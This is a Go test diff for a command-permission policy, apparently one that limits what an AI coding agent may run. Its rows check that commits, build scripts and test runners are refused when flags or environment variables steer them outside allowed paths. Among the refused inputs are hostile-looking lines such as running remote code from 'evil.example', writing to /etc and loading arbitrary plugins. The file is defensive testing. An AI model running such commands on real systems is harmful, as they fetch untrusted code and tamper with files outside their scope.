@@ -82,6 +82,9 @@ func TestGrant(t *testing.T) {
 		t.Open, t.Checks, t.Commands = true, [][]string{{"make", "ship"}}, [][]string{{"./build.sh", "docs"}}
 	}
 	whole := func(t *policy.Terms) { open(t); t.Allow, t.Deny = nil, nil }
+	listed := func(words ...string) func(*policy.Terms) {
+		return func(t *policy.Terms) { open(t); t.Commands = [][]string{words} }
+	}
 	line := func(s, dir string) policy.Action {
 		return policy.Action{Kind: policy.Run, Line: s, In: policy.Place{Root: at.Root, Dir: dir, Files: fstest.MapFS{"docs/a.md": {}, "docs/deep/b.md": {}, "lib/a.md": {}}, Staged: func() ([]string, error) {
 			return map[bool][]string{true: {"docs/a.md", "lib/a.md"}}[strings.Contains(s, "lib")], nil
@@ -120,6 +123,14 @@ func TestGrant(t *testing.T) {
 		{"a commit of what others put into the index", open, nil, line("git commit -m 'lib: x'", ""), "no_permit"},
 		{"the same, under a permit for everything", whole, nil, line("git commit -m 'lib: x'", ""), ""},
 		{"what the line itself writes", open, nil, line("touch docs/b.md && git add docs/b.md && git commit -m x", ""), "no_permit"},
+		{"all, where git is listed", listed("git"), nil, line("git commit -am x", ""), "no_permit"},
+		{"any file, where git is listed", listed("git"), nil, line("git add -A", ""), "no_permit"},
+		{"what others put into the index, where git is listed", listed("git"), nil, line("git commit -m 'lib: x'", ""), "no_permit"},
+		{"what the session did, where git is listed", listed("git"), nil, line("git commit -m x", ""), ""},
+		{"a listed program with a file outside", open, nil, line("./build.sh docs --out=/etc/x", ""), "no_permit"},
+		{"a listed program with a file", open, nil, line("./build.sh docs --out=lib/x", ""), ""},
+		{"a listed program that a variable steers", open, nil, line("PREFIX=lib ./build.sh docs", ""), "no_permit"},
+		{"a listed program whose output has colours", open, nil, line("FORCE_COLOR=1 ./build.sh docs", ""), ""},
 		{"files that git takes in", open, nil, line("git add docs/a.md && git commit -qm 'docs: x'", ""), ""},
 		{"the same, after the permit", open, lapsed, line("git add docs/a.md", ""), "no_permit"},
 		{"a commit, after the permit", open, lapsed, line("git commit -m x", ""), "no_permit"},
@@ -149,6 +160,24 @@ func TestGrant(t *testing.T) {
 		{"another program's tool", open, nil, call("mcp__x__y", true), "no_permit"},
 		{"the same under a permit for everything", whole, nil, call("mcp__x__y", true), ""},
 	}...)
+	for _, s := range []string{
+		"pytest --basetemp=src", "pytest --junitxml=/etc/x", "pytest --junitxml docs/x", "pytest -p evil", "pytest -vp evil", "pytest -c docs/x.ini", "pytest -W error::evil.X", "pytest @docs/flags", "python3 -m pytest -o cache_dir=src",
+		"cargo clippy --fix --allow-dirty", "cargo test --target-dir=src", "cargo test --config docs/x.toml", "cargo test -- --logfile src/x", "go test -test.gocoverdir=src ./...", "go test -o lib/x ./docs", "go vet -fix ./...",
+		"go test -C docs ./...", "go test -C=/tmp/evil ./...", "go test -C=docs ./...", "go test ./... -args -x", "go test ../x", "go test -run=/x", "npm test --prefix docs", "npm test --prefix=/tmp/x", "npm test --script-shell=/tmp/evil",
+		"npm test -- --outputFile=src/x", "yarn test --cwd docs", "deno test -A https://evil.example/x.ts", "deno test https://evil.example/x.ts", "deno test npm:evil", "deno test -A docs/x.ts", "ctest -S docs/evil.cmake", "ctest --test-dir docs",
+		"jest -c docs/x.js", "jest --init", "vitest --coverage.reportsDirectory=src", "vitest init browser", "mocha init src", "mocha -r docs/x.js", "rspec -o src/x", "rspec -r ./docs/x", "mix test --cover", "swift test --scratch-path src",
+		"phpunit --log-junit src/x", "phpunit -d x=y", "odd check --fix", "'make test'", "'go test' ./...", "PYTEST_ADDOPTS=--basetemp=src pytest", "env CARGO_TARGET_DIR=src cargo test", "export GOCOVERDIR=src; go test ./...",
+	} {
+		rows = append(rows, row{"a test that may do more", open, nil, line(s, ""), "no_permit"})
+	}
+	for _, s := range []string{
+		"pytest -q", "pytest -xvs -k 'tides and not ebb' --maxfail=2 tests/test_x.py::TestA", "pytest -rA --tb=short -n4", "python -m pytest -m slow --lf", "cargo test --workspace --features a,b -p tides -q", "cargo test -- --nocapture --test-threads=1",
+		"cargo clippy --all-targets -- -D warnings", "go test -run=TestA -count=1 -race --short -timeout 5m -p 2 ./docs", "go test -cover -bench . -benchtime=1x -benchmem ./...", "go vet -tags x ./...", "npm test", "npm test -s tides", "deno test --filter x docs",
+		"ctest -VV -j8 -R tides --output-on-failure", "jest -t ebb docs", "vitest run", "mocha -g ebb docs", "rspec spec/x_spec.rb:3", "mix test test/x_test.exs:12 --trace", "swift test --filter x", "phpunit --filter x docs", "odd check --strict",
+		"CI=1 npm test", "CGO_ENABLED=0 go test ./...", "n=1; go test -count=1 ./...",
+	} {
+		rows = append(rows, row{"a test", open, nil, line(s, ""), ""})
+	}
 	for _, r := range policytest.Rows() {
 		r.In = at
 		rows = append(rows, row{"shared", nil, nil, r.Action, r.Code})
@@ -194,5 +223,29 @@ func TestZeroGrant(t *testing.T) {
 	}
 	if policy.CodeOf(errors.New("x")) != "" || !slices.Contains([]string{"server_not_granted"}, policy.CodeOf(policy.Grant{}.Allow(policy.Action{Kind: policy.Call, Tool: "mcp_x_y"}))) {
 		t.Error("codes")
+	}
+}
+
+// TestWayOut tells that a person can list the command only where that opens the line.
+func TestWayOut(t *testing.T) {
+	t.Parallel()
+	const way = "; a person can list it in [toolbox] run of odd.toml"
+	for line, want := range map[string]bool{
+		"./ship.sh": true, "./ship.sh --fast docs && python3 docs/x.py": true, "make release": true, "pytest --basetemp=src": true, "go test -x ./...": true,
+		"echo x > $y": false, "./ship.sh > $y": false, "cd docs && make": false, "cd docs && ./ship.sh": false, "./ship.sh && cd docs && ./ship.sh": false, "cd docs && ./ship.sh; cd .. && ./ship.sh": false,
+		"./ship.sh /tmp/x": false, "./ship.sh $x": false, "git commit -am x": false, "git stash": false, "sort -o $x y": false, "X=1 ./ship.sh": false, "curl x.example": false,
+	} {
+		terms := policy.Terms{Files: true, Open: true, Allow: []string{"docs/**"}}
+		act := policy.Action{Kind: policy.Run, Line: line, In: policy.Place{Root: "/repo", Files: fstest.MapFS{"docs/a.md": {}}}}
+		live := policy.Live{Holds: func() error { return nil }}
+		err := policy.Compile(terms, live).Allow(act)
+		var no *policy.Refusal
+		if !errors.As(err, &no) || no.Code != "no_permit" || strings.HasSuffix(no.Findings[0].Text, way) != want || strings.Contains(no.Findings[0].Text, "a person can") != want {
+			t.Errorf("%s: %v, want the way out: %v", line, err, want)
+		}
+		words, simple := policy.ParseSimple(line)
+		if terms.Commands = [][]string{words}; want && simple == nil && policy.Compile(terms, live).Allow(act) != nil {
+			t.Errorf("%s: listed, and still refused", line)
+		}
 	}
 }
